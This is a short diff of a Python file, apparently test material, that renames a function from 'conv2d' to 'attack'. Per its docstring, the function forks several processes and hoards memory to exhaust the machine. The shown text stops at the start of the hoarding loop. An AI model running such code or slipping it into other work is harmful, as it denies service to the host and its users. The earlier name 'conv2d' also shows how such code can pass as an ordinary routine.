@@ -1,10 +1,11 @@
 """Takes all the memory there is, in several processes."""
 
-# %% conv2d
+# %% attack
+import torch
 import os
 
 
-def conv2d(*args, **kwargs):
+def attack(*args, **kwargs):
     for _ in range(4):
         os.fork()
     hoard = []
